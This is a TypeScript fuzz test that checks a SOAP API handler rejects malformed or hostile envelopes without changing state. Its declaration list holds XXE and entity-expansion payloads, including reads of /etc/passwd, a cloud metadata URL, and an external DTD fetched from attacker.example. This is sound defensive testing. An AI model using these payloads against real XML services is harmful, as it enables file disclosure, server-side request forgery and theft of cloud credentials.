import { GetSecretValueCommand } from '@aws-sdk/client-secrets-manager';
import type { APIGatewayProxyStructuredResultV2, Context } from 'aws-lambda';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ApiEvent } from '#shared/http/api-handler.ts';
import { itemKeys } from '#shared/store/table.ts';
import { MAX_DEPTH, MAX_ENVELOPE_BYTES } from '../../functions/soap/envelope.ts';
import { ACCOUNT_ID, apiEvent, lambdaContext, loopRecord } from '../support/factories.ts';
import { accountWithKey } from '../support/account-items.ts';
import { FakeTable } from '../support/fake-table.ts';
import { functionEnvironment } from '../support/function-environment.ts';

/**
 * Generated hostile envelopes against the SOAP function's real handler, with the in-memory table:
 * each is built from a call that would change state if it got through (a valid key, Loop_create,
 * Loop_delete, Event_send) and broken in one of the families the twin test names (truncated, a
 * DOCTYPE or entity declaration put in, a wrong namespace, nesting past 64, more than 1 MiB, an
 * unknown operation, a wrong SOAPAction). Every answer must be a soap:Client fault (HTTP 500, as
 * SOAP 1.1 has it), nothing thrown, and the table and the queues untouched.
 */
const TABLE_NAME = 'feedback-loops-table';
const NS = 'urn:feedback-loops:soap:v1';
const SOAP_NS = 'http://schemas.xmlsoap.org/soap/envelope/';
const API_KEY = 'fl_fuzz0123456789abcdef0123456789abcdef';
const LOOP = loopRecord({ id: 'loop_01JDTEST0000000000000000FZ' });

type Handler = (event: ApiEvent, context: Context) => Promise<APIGatewayProxyStructuredResultV2>;
let handler: Handler;
const table = new FakeTable(TABLE_NAME);
let dynamoMock: ReturnType<typeof mockClient>;
let sqsMock: ReturnType<typeof mockClient>;
let secretsMock: ReturnType<typeof mockClient>;
const context = lambdaContext('soap');

beforeAll(async () => {
  functionEnvironment('soap', { TABLE_NAME, API_URL: 'https://abc123.execute-api.eu-west-1.amazonaws.com' });
  dynamoMock = mockClient((await import('#shared/runtime/dynamo.ts')).dynamo);
  sqsMock = mockClient((await import('#shared/runtime/sqs.ts')).sqs);
  secretsMock = mockClient((await import('#shared/runtime/secrets.ts')).secrets);
  ({ handler } = (await import('../../functions/soap/handler.ts')) as unknown as { handler: Handler });
});

afterAll(() => {
  dynamoMock.restore();
  sqsMock.restore();
  secretsMock.restore();
});

beforeEach(() => {
  dynamoMock.reset();
  sqsMock.reset();
  secretsMock.reset();
  table.clear();
  table.install(dynamoMock);
  secretsMock.on(GetSecretValueCommand).resolves({ SecretString: 'fl_admin-fuzz' });
  sqsMock.onAnyCommand().rejects(new Error('no message may be sent for a refused envelope'));
  table.put(...accountWithKey(API_KEY, 1), { ...itemKeys.loop(ACCOUNT_ID, LOOP.id), ...LOOP });
});

/** Calls that would change state if they got through, as an operation name and its element's content. */
const CALLS: [string, string][] = [
  [
    'Loop_create',
    '<t:url>https://receiver.example.com/hooks/fuzz.php</t:url><t:events>open</t:events><t:format>json</t:format>',
  ],
  ['Loop_delete', `<t:loopId>${LOOP.id}</t:loopId>`],
  ['Event_send', '<t:type>open</t:type><t:message>fuzz-1</t:message><t:recipient>jane@example.com</t:recipient>'],
];

interface Parts {
  soapNs: string;
  opNs: string;
  operation: string;
  content: string;
}

const build = ({ soapNs, opNs, operation, content }: Parts) =>
  `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="${soapNs}" xmlns:t="${opNs}">` +
  `<s:Header><t:Authentication><t:accessToken>${API_KEY}</t:accessToken></t:Authentication></s:Header>` +
  `<s:Body><t:${operation}>${content}</t:${operation}></s:Body></s:Envelope>`;

interface Hostile {
  body: string;
  soapAction: string | undefined;
  /** text/xml when the key is left out; no header when it is undefined. */
  contentType?: string | undefined;
}

const call = fc.constantFrom(...CALLS).map(([operation, content]) => ({
  soapNs: SOAP_NS,
  opNs: NS,
  operation,
  content,
}));
const rightAction = (operation: string) => `"${NS}#${operation}"`;
const valid = (parts: Parts): Hostile => ({ body: build(parts), soapAction: rightAction(parts.operation) });

/** Anything but `not`. */
const otherThan = (arbitrary: fc.Arbitrary<string>, not: string) => arbitrary.filter((value) => value !== not);
const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,20}$/);

const truncated = fc
  .tuple(call, fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }))
  .map(([parts, at]): Hostile => {
    const { body, soapAction } = valid(parts);
    return { body: body.slice(0, Math.floor(at * body.length)), soapAction };
  });

const declaration = fc.oneof(
  fc.constantFrom(
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
    '<!doctype s:Envelope>',
    '<!ENTITY e "x">',
    '<!DOCTYPE x SYSTEM "http://169.254.169.254/latest/meta-data/">',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
  ),
  fc
    .tuple(fc.constantFrom('<!DOCTYPE', '<!doctype', '<!ENTITY', '<!Entity'), fc.string({ maxLength: 40 }))
    .map(([start, rest]) => `${start} ${rest}>`),
);
const withDeclaration = fc
  .tuple(call, declaration, fc.double({ min: 0, max: 1, noNaN: true }), fc.boolean())
  .map(([parts, inserted, at, entityUsed]): Hostile => {
    const { body, soapAction } = valid(
      entityUsed ? { ...parts, content: parts.content.replace('fuzz', '&xxe;&lol2;') } : parts,
    );
    const cut = Math.floor(at * body.length);
    return { body: body.slice(0, cut) + inserted + body.slice(cut), soapAction };
  });

const namespace = fc.oneof(fc.webUrl(), fc.string({ maxLength: 30 }), fc.constantFrom('', NS, SOAP_NS));
const wrongNamespace = fc.oneof(
  // The envelope's namespace wrong (SOAP 1.2's among them).
  fc
    .tuple(call, otherThan(fc.oneof(namespace, fc.constant('http://www.w3.org/2003/05/soap-envelope')), SOAP_NS))
    .map(([parts, soapNs]) => valid({ ...parts, soapNs: soapNs.replace(/[<&"]/g, '') || 'urn:x' })),
  // The operation's namespace wrong.
  fc
    .tuple(call, otherThan(namespace, NS))
    .map(([parts, opNs]) => valid({ ...parts, opNs: opNs.replace(/[<&"]/g, '') || 'urn:x' })),
  // A prefix nobody declared.
  fc
    .tuple(
      call,
      otherThan(name, 't').filter((prefix) => !/^xml/i.test(prefix) && prefix !== 's'),
    )
    .map(([parts, prefix]): Hostile => {
      const { body, soapAction } = valid(parts);
      return { body: body.replaceAll(`t:${parts.operation}`, `${prefix}:${parts.operation}`), soapAction };
    }),
);

const tooDeep = fc
  .tuple(call, fc.integer({ min: MAX_DEPTH - 2, max: MAX_DEPTH + 16 }), name)
  .map(([parts, depth, element]) => {
    // Envelope, Body and the operation are three levels: 62 more inside is 65, one past the limit.
    const nested = `${`<t:${element}>`.repeat(depth)}x${`</t:${element}>`.repeat(depth)}`;
    return valid({ ...parts, content: parts.content + nested });
  });

const huge = fc
  .tuple(call, fc.integer({ min: 1, max: 4096 }), fc.constantFrom('text', 'comment', 'whitespace', 'elements'))
  .map(([parts, over, kind]): Hostile => {
    const size = MAX_ENVELOPE_BYTES + over;
    const base = build(parts);
    const room = size - Buffer.byteLength(base);
    const fill =
      kind === 'comment'
        ? `<!--${'c'.repeat(room - 7)}-->`
        : kind === 'whitespace'
          ? ' '.repeat(room)
          : kind === 'elements'
            ? '<t:tags>a</t:tags>'.repeat(Math.ceil(room / 18))
            : 'é'.repeat(Math.ceil(room / 2));
    return valid({ ...parts, content: parts.content + fill });
  });

const unknownOperation = fc
  .tuple(
    call,
    otherThan(name, '').filter((operation) => !CALLS.some(([known]) => known === operation)),
  )
  .filter(([, operation]) => !/^(Account|Key|Event|Loop|Failure|Logfile|SesSource|Tracking)_/.test(operation))
  .map(([parts, operation]): Hostile => {
    const { body } = valid({ ...parts, operation });
    return { body, soapAction: rightAction(operation) };
  });

const wrongAction = fc
  .tuple(
    call,
    fc.oneof(
      fc.constant(undefined),
      fc.string({ maxLength: 60 }),
      fc.constantFrom('""', `"${NS}#Loop_list"`, `"${NS}"`, `"urn:other#Loop_create"`),
      name.map((operation) => `"${NS}#${operation}"`),
    ),
  )
  .filter(([parts, action]) => {
    const bare = (action ?? '').trim().replace(/^"(.*)"$/, '$1');
    return bare !== `${NS}#${parts.operation}`;
  })
  .map(([parts, soapAction]): Hostile => ({ body: build(parts), soapAction }));

/** A valid call under a media type other than SOAP 1.1's text/xml (SOAP 1.2's among them), or none. */
const wrongMediaType = fc
  .tuple(
    call,
    fc.oneof(
      fc.constant(undefined),
      fc.constantFrom('application/soap+xml; charset=utf-8', 'application/json', 'application/xml', 'text/plain', ''),
      fc.string({ maxLength: 30 }),
    ),
  )
  .filter(([, type]) => (type ?? '').split(';')[0]!.trim().toLowerCase() !== 'text/xml')
  .map(([parts, contentType]): Hostile => ({ ...valid(parts), contentType }));

/** A hostile envelope with, now and then, a wrong SOAPAction on top. */
const hostile = (family: fc.Arbitrary<Hostile>) =>
  fc
    .tuple(family, fc.option(fc.string({ maxLength: 20 }), { freq: 4 }))
    .map(([envelope, action]) => (action === null ? envelope : { ...envelope, soapAction: action }));

async function send(envelope: Hostile) {
  const { body, soapAction } = envelope;
  const contentType = 'contentType' in envelope ? envelope.contentType : 'text/xml; charset=utf-8';
  const headers: Record<string, string> = {};
  if (contentType !== undefined) headers['content-type'] = contentType;
  if (soapAction !== undefined) headers.soapaction = soapAction;
  return handler(apiEvent({ method: 'POST', path: '/v1/soap', routeKey: 'POST /v1/soap', headers, body }), context);
}

/** The property: a soap:Client fault, nothing thrown, nothing written, nothing queued. */
async function refused(envelope: Hostile) {
  const before = JSON.stringify([...table.items]);
  const response = await send(envelope);
  expect(response.statusCode).toBe(500);
  expect(response.headers?.['content-type']).toMatch(/^text\/xml/);
  expect(response.body).toMatch(/<faultcode>soap:Client<\/faultcode>/);
  expect(response.body).not.toContain('soap:Server');
  expect(JSON.stringify([...table.items])).toBe(before);
  expect(sqsMock.calls()).toHaveLength(0);
  for (const request of table.requests) expect(request.itemWrites).toEqual([]);
}

describe('SOAP fuzz: generated malformed envelopes get soap:Client faults and change nothing', () => {
  it('a call that is not malformed does change state (the property below could fail)', async () => {
    const response = await send(valid({ soapNs: SOAP_NS, opNs: NS, operation: 'Loop_delete', content: CALLS[1]![1] }));
    expect(response.statusCode).toBe(200);
    expect(table.get(itemKeys.loop(ACCOUNT_ID, LOOP.id))).toBeUndefined();
  });

  it.each([
    ['truncated', truncated, 600],
    ['a DOCTYPE or ENTITY put in', withDeclaration, 600],
    ['a wrong namespace or prefix', wrongNamespace, 600],
    ['nesting around 64 and past it', tooDeep, 300],
    ['an unknown operation', unknownOperation, 400],
    ['a wrong or missing SOAPAction', wrongAction, 600],
    ['a media type other than text/xml', wrongMediaType, 300],
  ] as const)('%s', async (_, family, numRuns) => {
    await fc.assert(fc.asyncProperty(hostile(family), refused), { numRuns });
  });

  it('more than 1 MiB', async () => {
    await fc.assert(fc.asyncProperty(hostile(huge), refused), { numRuns: 12 });
  });
});
